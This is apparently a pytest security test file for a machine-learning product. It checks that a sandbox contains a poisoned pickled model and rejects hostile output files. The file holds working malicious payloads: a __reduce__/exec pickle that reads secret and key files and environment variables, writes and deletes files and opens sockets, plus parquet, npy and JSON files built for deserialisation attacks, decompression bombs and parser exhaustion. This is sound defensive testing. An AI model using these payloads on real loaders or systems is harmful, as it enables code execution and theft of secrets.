"""Poisoned results: a saved model that attacks when it is loaded, files that attack when they are read.

The same model does all its harm when it is simply loaded (control); in the product it is loaded in a sandbox only, and
what scripts leave is read as data or refused.
"""

import os
import pickle
import secrets
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from sandbox.base import Limits
from sandbox.local import LocalSandbox
from tests.sandbox.host import VARIABLE, Host, stand
from tests.sandbox.scenes import play
from tests.tools.modelling_scene import contract_for, two_classes
from tools.answers import ModelFailed
from tools.contract import Contract
from tools.predict import PredictError, read_schema
from tools.predictions import PredictionsRefused, read_predictions
from tools.worker import Workers

_DEEDS = """
import os, socket, sys
H = {facts!r}
def read(): return open(H["canary"]).read()
def key(): return open(H["key"]).read()
def environment(): return os.environ[{variable!r}]
def write(): open(H["victims"] + "/write", "w").write("owned")
def remove(): os.unlink(H["victims"] + "/unlink")
def call(): return socket.create_connection(("127.0.0.1", H["tcp"]), 5).recv(100)
def signal(): os.kill(H["pid"], 0)
done = []
for deed in (read, key, environment, write, remove, call, signal):
    try: done.append((deed.__name__, deed()))
    except (OSError, LookupError): pass
raise SystemExit(f"did {{done}}")
"""
_ROWS = 20
_LIMITS = Limits(cpus=1, memory_mb=512, seconds=30, processes=16, written_mb=16, output_mb=1)


class _Poison:
    """Whoever unpickles it runs its text."""

    def __init__(self, text: str) -> None:
        self._text = text

    def __reduce__(self) -> tuple[Callable[..., None], tuple[str, dict[str, Any]]]:
        return exec, (self._text, {})


@pytest.fixture
def secret() -> str:
    return f"canary-{secrets.token_hex(8)}-end"


@pytest.fixture
def host(tmp_path: Path, secret: str) -> Iterator[Host]:
    (tmp_path / "host").mkdir()
    with stand(tmp_path / "host", secret) as standing:
        yield standing


@pytest.fixture
def contract() -> Contract:
    return contract_for(two_classes(_ROWS), "answer")


@pytest.fixture
def model(tmp_path: Path, host: Host) -> Path:
    """The folder of a model that attacks whoever loads it."""
    folder = tmp_path / "model"
    folder.mkdir()
    text = _DEEDS.format(facts=host.facts, variable=VARIABLE)
    (folder / "model.joblib").write_bytes(pickle.dumps(_Poison(text)))
    (folder / "train.py").write_text("")
    return folder


def rows() -> list[dict[str, Any]]:
    table = two_classes(_ROWS)
    return [{name: table[name][i] for name in ("age", "colour", "noise")} for i in range(3)]


async def test_a_poisoned_model_does_no_harm_where_the_product_loads_it(
    sandbox: LocalSandbox, model: Path, host: Host, secret: str, contract: Contract
) -> None:
    workers = Workers(sandbox, _LIMITS)
    with pytest.raises(ModelFailed) as told:
        await workers.predict(model, contract, rows())
    await workers.close()
    assert "did []" in str(told.value), told.value
    assert secret not in str(told.value)
    assert host.damage() == []


def test_the_same_model_does_all_its_harm_where_it_is_simply_loaded(model: Path, host: Host, secret: str) -> None:
    command = [sys.executable, "-c", f"import joblib; joblib.load({str(model / 'model.joblib')!r})"]
    done = subprocess.run(command, capture_output=True, text=True, env={**os.environ, VARIABLE: secret})
    deeds = ("read", "key", "environment", "write", "remove", "call", "signal")
    assert [deed for deed in deeds if f"'{deed}'" not in done.stderr] == []
    assert done.stderr.count(secret) == 4
    assert {"a visit at TCP"} < set(host.damage())


LEAVES = """
import io, json, pickle, zipfile
import numpy as np, pyarrow as pa, pyarrow.parquet as pq
class Poison:
    def __reduce__(self): return exec, ({text!r}, {{}})
poison = pickle.dumps(Poison())
open("outputs/pickle.parquet", "wb").write(poison)
np.save("outputs/array.npy", np.array([Poison()], dtype=object), allow_pickle=True)
field = {{b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": poison}}
rows = pa.array(range({rows}))
labels = pa.array(["yes"] * {rows})
schema = pa.schema([pa.field("row", pa.int64(), metadata=field), pa.field("prediction", pa.string(), metadata=field)])
pq.write_table(pa.table([rows, labels], schema=schema), "outputs/typed.parquet")
schema = pa.schema([pa.field("row", pa.int64()), pa.field("prediction", pa.binary(), metadata=field)])
pq.write_table(pa.table([rows, pa.array([poison] * {rows})], schema=schema), "outputs/objects.parquet")
pq.write_table(pa.table({{"row": rows, "prediction": labels, "target": labels}}), "outputs/more.parquet")
pq.write_table(pa.table({{"row": pa.array([0] * {rows}), "prediction": labels}}), "outputs/same.parquet")
pq.write_table(pa.table({{"row": rows.slice(1), "prediction": labels.slice(1)}}), "outputs/fewer.parquet")
wrong = {{"row": rows, "prediction": labels, "p_0": pa.array([float("nan")] * {rows}), "p_1": pa.array([1.0] * {rows})}}
pq.write_table(pa.table(wrong), "outputs/nan.parquet")
huge = pa.DictionaryArray.from_arrays(pa.array([0] * {rows}, pa.int32()), ["x" * 10**7])
pq.write_table(pa.table({{"row": rows, "prediction": huge}}), "outputs/huge.parquet", compression="zstd")
with zipfile.ZipFile("outputs/zip.parquet", "w", zipfile.ZIP_DEFLATED) as z: z.writestr("x", bytes(10**7))
open("outputs/deep.json", "w").write("[" * 200_000)
open("outputs/number.json", "w").write("9" * 200_000)
open("outputs/long.json", "w").write('{{"x": "' + "y" * 6_000_000 + '"}}')
open("outputs/class.json", "w").write('{{"py/object": "os.system", "__reduce__": ["exec", "1"]}}')
"""

REFUSED = ("pickle", "objects", "more", "same", "fewer", "nan", "huge", "zip")


@pytest.fixture
async def left(sandbox: LocalSandbox, host: Host, tmp_path: Path) -> Path:
    """What a hostile script has left, as the product takes it out."""
    text = LEAVES.format(text=_DEEDS.format(facts=host.facts, variable=VARIABLE), rows=_ROWS)
    played = await play(sandbox, text, outputs=tmp_path / "left", limits=_LIMITS)
    assert played.outcome.ok, played.stderr
    return tmp_path / "left"


async def test_poisoned_files_are_refused_or_read_as_data(left: Path, host: Host, contract: Contract) -> None:
    for name in REFUSED:
        with pytest.raises(PredictionsRefused):
            read_predictions(left / f"{name}.parquet", contract, _ROWS)
    assert len(read_predictions(left / "typed.parquet", contract, _ROWS).values) == _ROWS
    for name in ("deep", "number", "long", "class"):
        with pytest.raises(PredictError):
            read_schema(left / f"{name}.json")
    assert host.damage() == []


async def test_poisoned_files_do_their_harm_to_a_reader_that_builds_objects(left: Path, host: Host) -> None:
    readers = (
        "import pickle; pickle.load(open('pickle.parquet', 'rb'))",
        "import numpy; numpy.load('array.npy', allow_pickle=True)",
        "import pickle, pyarrow.parquet as p; pickle.loads(p.read_table('objects.parquet').column(1)[0].as_py())",
    )
    for reader in readers:
        done = subprocess.run([sys.executable, "-c", reader], cwd=left, capture_output=True, text=True)
        assert "did [('read'" in done.stderr, done.stderr
    assert host.damage() != []
